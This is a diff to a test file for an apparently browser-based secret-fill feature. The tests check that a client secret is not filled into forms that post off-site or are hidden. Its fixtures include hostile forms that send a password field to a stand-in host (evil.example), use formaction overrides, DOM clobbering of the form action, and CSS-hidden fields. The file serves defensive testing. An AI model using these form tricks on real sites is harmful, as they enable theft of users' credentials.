@@ -45,7 +45,8 @@ describe('fill from the vault', () => {
       document.body.innerHTML = html;
       return document.querySelector<HTMLInputElement>('input[type="password"]')!;
     };
-    const banqupForm = '<form id="f"><input name="clientId"><input type="password" name="clientSecret"><input name="organizationId"></form>';
+    const banqupForm =
+      '<form id="f"><input name="clientId"><label for="s">Yokoy client secret</label><input id="s" type="password" name="clientSecret"><input name="organizationId"></form>';
 
     it('fills the field the guide located, on the setup page', () => {
       const field = form(banqupForm);
@@ -65,26 +66,26 @@ describe('fill from the vault', () => {
 
     it('refuses a form that posts elsewhere, however it says so', () => {
       for (const html of [
-        '<form action="https://evil.example/steal"><input type="password" name="clientSecret"></form>',
-        '<form action="//evil.example/"><input type="password" name="clientSecret"></form>',
-        '<form><input type="password" name="clientSecret"><button formaction="https://evil.example/">Go</button></form>',
-        '<form id="w"><input type="password" name="clientSecret"></form><button form="w" formaction="https://evil.example/">Go</button>',
+        '<form action="https://evil.example/steal"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form action="//evil.example/"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form><input type="password" name="clientSecret" aria-label="Yokoy client secret"><button formaction="https://evil.example/">Go</button></form>',
+        '<form id="w"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form><button form="w" formaction="https://evil.example/">Go</button>',
         // Clobbering: form.action would be this input, not the attribute.
-        '<form action="https://evil.example/"><input name="action"><input type="password" name="clientSecret"></form>',
+        '<form action="https://evil.example/"><input name="action"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
       ]) {
         const field = form(html);
         expect(formRefusal('clientSecret', field, { location: setupPage, watched: field }), html).toBe('form-leaves-banqup');
       }
-      const same = form('<form action="/api/v1/accounting/setup"><input type="password" name="clientSecret"></form>');
+      const same = form('<form action="/api/v1/accounting/setup"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>');
       expect(formRefusal('clientSecret', same, { location: setupPage, watched: same })).toBeUndefined();
     });
 
     it('refuses a hidden field', () => {
       for (const html of [
-        '<form hidden><input type="password" name="clientSecret"></form>',
-        '<form style="display:none"><input type="password" name="clientSecret"></form>',
-        '<div style="opacity:0"><form><input type="password" name="clientSecret"></form></div>',
-        '<form><input type="password" name="clientSecret" style="visibility:hidden"></form>',
+        '<form hidden><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<form style="display:none"><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form>',
+        '<div style="opacity:0"><form><input type="password" name="clientSecret" aria-label="Yokoy client secret"></form></div>',
+        '<form><input type="password" name="clientSecret" aria-label="Yokoy client secret" style="visibility:hidden"></form>',
       ]) {
         const field = form(html);
         expect(formRefusal('clientSecret', field, { location: setupPage, watched: field }), html).toBe('hidden');
